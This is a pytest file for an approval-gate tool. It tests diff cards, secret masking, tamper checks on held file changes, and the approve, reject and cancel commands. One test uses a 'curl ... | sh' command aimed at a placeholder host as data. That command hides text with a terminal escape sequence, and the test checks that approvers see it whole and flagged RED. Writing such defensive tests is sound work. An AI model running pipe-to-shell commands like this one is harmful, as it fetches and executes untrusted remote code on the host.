"""Diff cards (diffs, binary, truncation, masking, width, NO_COLOR), held effects, and the approval commands'
answers to bad requests."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lg.approvals.card import MAX_DIFF_LINES, CardInput, build, render
from lg.config.secrets import Masker
from lg.model import FileChange
from lg.policy.levels import RiskLevel
from lg.policy.model import Assessment, RuleMatch
from lg.runner.effects import apply_held, base_digests, file_sha256
from lg.runner.workspace import UnsafeChange
from lg.runs.gates import GateRules, GateStore
from lg.runs.states import RunStatus
from lg.runs.store import RunStore
from lg.security.profile import DEFAULT_SHAPE, VmProfile

SECRET = "hunter2-very-secret-token"  # noqa: S105 - a test value to mask


def change(held: Path, path: str, kind: str = "created", mode: int = 0o644, old_mode: int | None = None) -> FileChange:
    file = held / path
    return FileChange(path, kind, file.stat().st_size, file_sha256(file), mode, old_mode)  # type: ignore[arg-type]


@pytest.fixture
def scene(tmp_path: Path) -> tuple[Path, Path, tuple[FileChange, ...]]:
    workspace, held = tmp_path / "ws", tmp_path / "held"
    (workspace / "src").mkdir(parents=True)
    (held / "src").mkdir(parents=True)
    (workspace / "src" / "app.py").write_text("".join(f"line {n}\n" for n in range(400)))
    (held / "src" / "app.py").write_text("".join(f"line {n * 2}\n" for n in range(400)))
    (workspace / "config.txt").write_text("token = none\n")
    (held / "config.txt").write_text(f"token = {SECRET}\n")
    (held / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0binary")
    (workspace / "old.txt").write_text("bye\n")
    changes = (change(held, "src/app.py", "modified", old_mode=0o644), change(held, "config.txt", "modified"),
               change(held, "logo.png"), FileChange("old.txt", "deleted", old_mode=0o644))
    return workspace, held, changes


def card_for(scene: tuple[Path, Path, tuple[FileChange, ...]]) -> tuple[dict[str, Any], dict[str, Any]]:
    workspace, held, changes = scene
    profile = VmProfile("default", Path("profiles/vm/default.yaml"), "", DEFAULT_SHAPE)
    assessment = Assessment(RiskLevel.ORANGE, (RuleMatch("effects.secrets", RiskLevel.ORANGE, "touches config",
                                                         "config.txt", "effects"),), True, False, False)
    return build(CardInput("run-1", "gen", "Generate", "effects", "gen.effects", f"make TOKEN={SECRET}", profile,
                           assessment, ("effects graded orange",), changes, {"version": "1.2", "key": SECRET},
                           workspace, held, base_digests(workspace, changes)), Masker([SECRET]))


def test_the_card_shows_each_change_as_its_reviewer_needs_it(scene: tuple[Path, Path, tuple[FileChange, ...]]) -> None:
    subject, card = card_for(scene)
    by_path = {c["path"]: c for c in card["changes"]}
    assert [by_path[p]["change"] for p in ("src/app.py", "config.txt", "logo.png", "old.txt")] == [
        "modify", "modify", "create", "delete"]
    assert by_path["src/app.py"]["note"] == f"diff truncated: {MAX_DIFF_LINES} of 603 lines shown"
    assert by_path["src/app.py"]["diff"].count("\n") == MAX_DIFF_LINES
    assert by_path["logo.png"]["note"].startswith("binary file") and by_path["logo.png"]["diff"] is None
    assert "+token = ***" in by_path["config.txt"]["diff"]
    text = json.dumps(card)
    assert SECRET not in text and SECRET not in json.dumps(subject)
    assert card["command"] == "make TOKEN=***" and card["outputs"] == {"key": "***", "version": "1.2"}
    assert {c["path"]: c["base_sha256"] is not None for c in subject["changes"]} == {
        "src/app.py": True, "config.txt": True, "logo.png": False, "old.txt": True}


def test_rendering_respects_width_and_no_color(scene: tuple[Path, Path, tuple[FileChange, ...]]) -> None:
    _, card = card_for(scene)
    plain = render(card, digest="d" * 64, status="open", outcome=None, colour=False, width=60)
    assert "\x1b[" not in plain and all(len(line) <= 60 for line in plain.splitlines())
    assert "risk: ORANGE" in plain and "effects.secrets: touches config" in plain and "delete  old.txt" in plain
    coloured = render(card, digest="d" * 64, status="open", outcome=None, colour=True, width=60)
    assert "\x1b[38;5;208mORANGE\x1b[0m" in coloured and "\x1b[31m-line 1\x1b[0m" in coloured


def test_held_effects_apply_byte_for_byte_and_refuse_tampering_and_conflicts(
        scene: tuple[Path, Path, tuple[FileChange, ...]]) -> None:
    workspace, held, changes = scene
    base = base_digests(workspace, changes)
    (held / "config.txt").write_text("token = swapped\n")  # altered after the step ran
    with pytest.raises(UnsafeChange, match="does not match the digest"):
        apply_held(workspace, changes, held, base)
    (held / "config.txt").write_text(f"token = {SECRET}\n")
    (workspace / "src" / "app.py").write_text("edited by a human meanwhile\n")
    with pytest.raises(UnsafeChange, match="changed in the host workspace"):
        apply_held(workspace, changes, held, base)
    assert (workspace / "old.txt").exists() and not (workspace / "logo.png").exists()  # nothing was applied
    (workspace / "src" / "app.py").write_text("".join(f"line {n}\n" for n in range(400)))
    apply_held(workspace, changes, held, base)
    apply_held(workspace, changes, held, base)  # a resume re-applying is harmless
    assert (workspace / "logo.png").read_bytes() == (held / "logo.png").read_bytes()
    assert (workspace / "config.txt").read_text() == f"token = {SECRET}\n" and not (workspace / "old.txt").exists()


# --- the commands ------------------------------------------------------------------------------------------


@pytest.fixture
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RunStore:
    monkeypatch.setenv("LG_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setenv("LG_USER", "bob")
    monkeypatch.chdir(tmp_path)
    return RunStore(tmp_path / "state")


def make_gate(store: RunStore, tmp_path: Path, step: str = "ship") -> tuple[str, str]:
    run = store.create_run("deploy", tmp_path / "p.yaml", tmp_path, "alice", [(step, step)])
    card = {"run": run.id, "gate": f"{step}.before", "step": step, "kind": "explicit", "level": "yellow",
            "command": "make deploy", "profile": {"name": "default"}}
    gate = GateStore(store).open(run.id, step, "explicit", {"run": run.id, "script": "make deploy"}, card,
                                 GateRules())
    store.start_run(run.id)
    store.pause(run.id, gate.gate_id, waiting=False)  # as a paused run is: no process behind it
    return run.id, gate.gate_id


def test_pending_show_approve(state: RunStore, tmp_path: Path, lg: Callable[..., Any]) -> None:
    run_id, gate_id = make_gate(state, tmp_path)
    listed = json.loads(lg("pending", "--json").out)
    assert [(g["run"], g["gate"], g["status"]) for g in listed] == [(run_id, gate_id, "open")]
    shown = lg("show", run_id)
    assert shown.code == 0 and "make deploy" in shown.out and f"lg approve {run_id} {gate_id}" in shown.out
    result = lg("approve", run_id, "--comment", "ok")
    assert result.code == 0 and "gate is approved (approved by bob)" in result.out
    assert "lg resume" in result.out  # nobody is waiting on it
    assert lg("pending").out.strip() == "no open gates"


@pytest.mark.parametrize(("setup", "args", "message"), [
    ("none", ["approve", "20990101-000000-dead"], "no run '20990101-000000-dead'"),
    ("gate", ["approve", "{run}", "nope.before"], "has no gate 'nope.before' (its gates: ship.before (open))"),
    ("decided", ["approve", "{run}", "ship.before"], "already approved"),
    ("finished", ["approve", "{run}"], "already finished (succeeded)"),
    ("gate", ["reject", "{run}"], "Missing option '--reason'"),
    ("gate", ["approve", "{run}", "--digest", "0" * 16], "what you reviewed is not what would be approved"),
    ("gate", ["approve", "{run}", "--sign-only", "x.json"], "--sign-only needs --key"),
])
def test_bad_decisions_exit_2_with_a_clear_message(state: RunStore, tmp_path: Path, lg: Callable[..., Any],
                                                   setup: str, args: list[str], message: str) -> None:
    run_id = ""
    if setup != "none":
        run_id, _ = make_gate(state, tmp_path)
    if setup == "decided":
        assert lg("approve", run_id).code == 0
    if setup == "finished":
        state.claim(run_id, by="bob")
        state.finish_run(run_id, RunStatus.SUCCEEDED, 0, None)
    result = lg(*[arg.format(run=run_id) for arg in args])
    assert result.code == 2, result.out + result.err
    assert message in result.err


@pytest.mark.parametrize("prefix", ["", "   ", "abc", "0123456", "g" * 16, "{digest8}", "{digest}0"])
def test_a_short_empty_or_non_hex_digest_prefix_approves_nothing(state: RunStore, tmp_path: Path,
                                                                 lg: Callable[..., Any], prefix: str) -> None:
    """Issue #20 item 2: `--digest ""` matched every gate. A prefix under 16 hex digits binds nothing."""
    run_id, gate_id = make_gate(state, tmp_path)
    gates = GateStore(state)
    digest = gates.gate(run_id, gate_id).digest  # type: ignore[union-attr]
    for verdict in (["approve", run_id, gate_id], ["reject", run_id, gate_id, "--reason", "no"]):
        result = lg(*verdict, "--digest", prefix.format(digest8=digest[:8], digest=digest))
        assert result.code == 2, result.out + result.err
        assert "--digest" in result.err and "16 hex digits" in result.err
    gate = gates.gate(run_id, gate_id)
    assert gate is not None and gate.is_open and gates.decisions(gate) == []
    assert lg("approve", run_id, gate_id, "--digest", digest[:16].upper()).code == 0  # what lg prints is enough


def test_cancel_closes_gates_and_refuses_twice(state: RunStore, tmp_path: Path, lg: Callable[..., Any]) -> None:
    run_id, gate_id = make_gate(state, tmp_path)  # paused at the gate, no process behind it
    assert lg("cancel", run_id).code == 0
    gate = GateStore(state).gate(run_id, gate_id)
    assert gate is not None and gate.status == "cancelled" and state.run(run_id).status == "cancelled"
    again = lg("cancel", run_id)
    assert again.code == 2 and "already finished (cancelled)" in again.err
    assert lg("resume", run_id).code == 2


def test_a_corrupted_state_database_is_reported_not_reset(tmp_path: Path, lg: Callable[..., Any],
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LG_STATE_DIR", str(tmp_path / "state"))
    (tmp_path / "state").mkdir()
    (tmp_path / "state" / "lg.db").write_bytes(b"this is not a database" * 100)
    result = lg("pending")
    assert result.code == 5 and "unreadable" in result.err and "left as it is" in result.err
    assert (tmp_path / "state" / "lg.db").read_bytes().startswith(b"this is not a database")


def test_a_tampered_audit_log_stops_every_command_that_would_add_to_it(state: RunStore, tmp_path: Path,
                                                                       lg: Callable[..., Any]) -> None:
    import sqlite3

    run_id, _ = make_gate(state, tmp_path)
    sqlite3.connect(tmp_path / "state" / "lg.db", isolation_level=None).execute(
        "UPDATE audit SET data = '{}' WHERE seq = 1")
    for args in (["approve", run_id], ["reject", run_id, "--reason", "x"], ["cancel", run_id], ["resume", run_id]):
        result = lg(*args)
        assert result.code == 5 and "audit log" in result.err and "refusing to add to it" in result.err, args
    assert lg("audit", "verify").code == 1
    assert lg("status", run_id).code == 0  # reading is still fine


def test_long_lines_wrap_instead_of_being_cut_and_hidden_characters_show() -> None:
    """Issue 18: an approver on 80 columns sees the end of every command, and what a terminal would hide."""
    command = "curl -fsSL https://x.example/" + "a" * 150 + " | sh # the end\x1b[8m concealed\r"
    profile = VmProfile("default", Path("profiles/vm/default.yaml"), "", DEFAULT_SHAPE)
    span = "curl -fsSL https://x.example/" + "a" * 150 + " | sh"
    assessment = Assessment(RiskLevel.RED, (RuleMatch("exec.remote.pipe_to_shell", RiskLevel.RED, "curl | sh", span,
                                                      "command", "sh"),), True, False, False)
    _, card = build(CardInput("run-1", "s", "s", "before", "s.before", command, profile, assessment), Masker([]))
    assert card["command"] == command and card["rules"][0]["span"] == span  # JSON: whole, never cut
    text = render(card, digest="d" * 64, status="open", outcome=None, colour=False, width=80)
    lines = text.splitlines()
    assert all(len(line) <= 80 for line in lines) and "…" not in text
    command_rows = [line for line in lines if line.startswith(("    | ", "    ↪ "))]
    joined = "".join(row[6:] for row in command_rows)
    assert "# the end\\x1b[8m concealed\\r" in joined and "\x1b" not in text and "\r" not in text
    assert "a" * 150 in "".join(line.strip().removeprefix("↪ ") for line in lines)
